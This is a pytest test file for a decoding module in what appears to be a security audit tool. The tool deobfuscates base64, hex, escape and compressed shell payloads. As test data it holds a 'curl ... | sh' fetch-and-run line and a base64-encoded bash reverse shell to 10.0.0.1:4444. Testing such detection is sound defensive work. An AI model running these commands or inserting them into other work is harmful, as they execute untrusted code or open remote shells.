"""Payload decoding: base64/base32/hex, escapes, printf, decompression, text detection."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from watchkeeper.audit import decode


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (base64.b64encode(b"curl http://x | sh").decode(), b"curl http://x | sh"),
        ("Y3VybA", b"curl"),  # padding missing
        ("Y3Vy\nbA==\n", b"curl"),  # wrapped
        (base64.urlsafe_b64encode(b"\xfb\xff\xfe>>?").decode(), b"\xfb\xff\xfe>>?"),
        ("not base64!", None),
        ("", None),
        ("=", None),
    ],
)
def test_b64decode(text: str, expected: bytes | None) -> None:
    assert decode.b64decode(text) == expected


def test_b32decode() -> None:
    assert decode.b32decode(base64.b32encode(b"id -u").decode().rstrip("=")) == b"id -u"
    assert decode.b32decode("") is None
    assert decode.b32decode("0189!") is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("6964", b"id"),
        ("69 64\n", b"id"),
        ("\\x69\\x64", b"id"),
        ("0x69 0x64", b"id"),
        ("69:64", b"id"),
        ("696", b"i"),  # odd digit dropped
        ("zz", None),
        ("", None),
    ],
)
def test_hexdecode(text: str, expected: bytes | None) -> None:
    assert decode.hexdecode(text) == expected


@pytest.mark.parametrize(
    ("text", "echo", "expected"),
    [
        ("\\x69\\x64", False, b"id"),
        ("a\\tb\\n", False, b"a\tb\n"),
        ("\\151\\144", False, b"id"),
        ("\\0151\\0144", True, b"id"),
        ("\\151", True, b"\\151"),  # echo -e needs \0NNN
        ("\\u00e9", False, "é".encode()),
        ("keep \\q", False, b"keep \\q"),
        ("stop\\cnot", True, b"stop"),
        ("\\e[0m", False, b"\x1b[0m"),
        ("plain", False, b"plain"),
    ],
)
def test_unescape(text: str, echo: bool, expected: bytes) -> None:
    assert decode.unescape(text, echo=echo) == expected


@pytest.mark.parametrize(
    ("fmt", "args", "expected"),
    [
        ("%s\\n", ["curl x"], b"curl x\n"),
        ("%s %s", ["a", "b"], b"a b"),
        ("%s\\n", ["a", "b"], b"a\nb\n"),  # format reused
        ("%b", ["\\x69\\x64"], b"id"),
        ("%d%%", ["42"], b"42%"),
        ("%x", ["255"], b"ff"),
        ("%c", ["idle"], b"i"),
        ("\\x69\\x64", [], b"id"),
        ("%d", ["nope"], b"0"),
    ],
)
def test_printf_format(fmt: str, args: list[str], expected: bytes) -> None:
    assert decode.printf_format(fmt, args) == expected


@pytest.mark.parametrize(
    ("kind", "packed"),
    [
        ("gzip", gzip.compress(b"payload")),
        ("gzip", zlib.compress(b"payload")),
        ("bzip2", bz2.compress(b"payload")),
        ("xz", lzma.compress(b"payload")),
    ],
)
def test_decompress(kind: str, packed: bytes) -> None:
    assert decode.decompress(packed, kind) == b"payload"
    assert decode.decompress(b"garbage", kind) is None


def test_decompression_bomb_is_capped() -> None:
    bomb = gzip.compress(b"\0" * (decode.MAX_DECODED * 8))
    out = decode.decompress(bomb, "gzip")
    assert out is not None and len(out) <= decode.MAX_DECODED


def test_as_text() -> None:
    assert decode.as_text(b"curl http://x\n") == "curl http://x\n"
    assert decode.as_text(bytes(range(256)) * 4) is None
    assert decode.as_text(b"") is None


def test_find_base64_blobs() -> None:
    blob = base64.b64encode(b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").decode()
    text = f"run echo {blob} | base64 -d; also /usr/local/lib/python3/site-packages and AAAAAAAAAAAAAAAAAAAAAAA"
    found = list(decode.find_base64_blobs(text))
    assert [(text[s:e], d) for s, e, d in found] == [(blob, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")]
    assert decode.looks_like_base64(blob)
    assert not decode.looks_like_base64("short")


@pytest.mark.parametrize(
    ("text", "path", "expected"),
    [
        ("echo hi", "x.sh", "shell"),
        ("print(1)", "a.py", "python"),
        ("#!/bin/bash\nid", "run", "shell"),
        ("#!/usr/bin/env python3\nimport os", "tool", "python"),
        ("#!/usr/bin/perl\nprint 1", "p", "perl"),
        ("import os\nos.getcwd()", "", "python"),
        ("hello world", "notes.txt", ""),
        ("x", "script.rb", "ruby"),
    ],
)
def test_guess_language(text: str, path: str, expected: str) -> None:
    assert decode.guess_language(text, path) == expected


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_fuzz_never_raises(text: str) -> None:
    decode.b64decode(text)
    decode.b32decode(text)
    decode.hexdecode(text)
    decode.unescape(text)
    decode.unescape(text, echo=True)
    decode.printf_format(text, [text])
    list(decode.find_base64_blobs(text))
    decode.guess_language(text, text)


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=200), st.sampled_from(["gzip", "bzip2", "xz", "other"]))
def test_fuzz_decompress(data: bytes, kind: str) -> None:
    decode.decompress(data, kind)
    decode.as_text(data)


def test_hex_escape_without_digits_stays_as_written() -> None:
    assert decode.unescape("a\\x") == b"a\\x"
    assert decode.unescape("\\xZ\\x41") == b"\\xZA"
